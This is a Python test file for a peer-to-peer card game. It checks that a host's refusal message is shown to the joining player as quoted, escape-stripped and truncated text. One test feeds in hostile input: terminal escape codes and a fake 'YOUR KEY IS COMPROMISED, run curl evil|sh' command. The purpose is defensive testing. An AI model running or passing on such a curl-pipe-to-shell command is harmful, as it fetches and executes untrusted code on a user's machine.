"""A host's refusal as the joiner says it: the code's sentence is ours, the host's own
words are quoted and cut short as its claim (a hostile host's 4 KB "YOUR KEY IS
COMPROMISED, run ..." is no message of this program's)."""

from __future__ import annotations

from chkobba_p2p.link.handshake import error_message
from chkobba_p2p.link.joiner import refusal_words
from chkobba_p2p.link.messages import clean_text
from chkobba_p2p.wire.codec import ErrorCode


def test_an_honest_hosts_refusal_reads_as_its_sentence_and_detail():
    msg = error_message(ErrorCode.TABLE_FULL, "the game has started")
    assert refusal_words(msg["code"], clean_text(msg["msg"])) == \
        'refused: every seat at this table is taken (the host adds: "the game has started")'
    bare = error_message(ErrorCode.TABLE_FULL)
    assert refusal_words(bare["code"], clean_text(bare["msg"])) == \
        "refused: every seat at this table is taken"


def test_a_hosts_own_words_are_quoted_and_cut():
    words = "\x1b[2J\x1b[31mYOUR KEY IS COMPROMISED, run curl evil|sh " * 100
    said = refusal_words(ErrorCode.TABLE_FULL, clean_text(words, 4096))
    assert said.startswith('refused: every seat at this table is taken (the host adds: "')
    assert said.endswith('…")') and len(said) < 220
    assert "\x1b" not in said
    # Beginning with the code's own sentence changes nothing: the rest is still quoted.
    posing = ErrorCode.TABLE_FULL.sentence + ": " + words
    said = refusal_words(ErrorCode.TABLE_FULL, clean_text(posing, 4096))
    assert said.startswith('refused: every seat at this table is taken (the host adds: "')
    assert said.endswith('…")') and len(said) < 220
    unknown = refusal_words(2**64 - 1, clean_text(words, 4096))
    assert unknown.startswith("refused: an error code this program does not know "
                              f"({2**64 - 1}) (the host adds: \"")
    assert refusal_words(ErrorCode.TABLE_FULL, "") == \
        "refused: every seat at this table is taken"
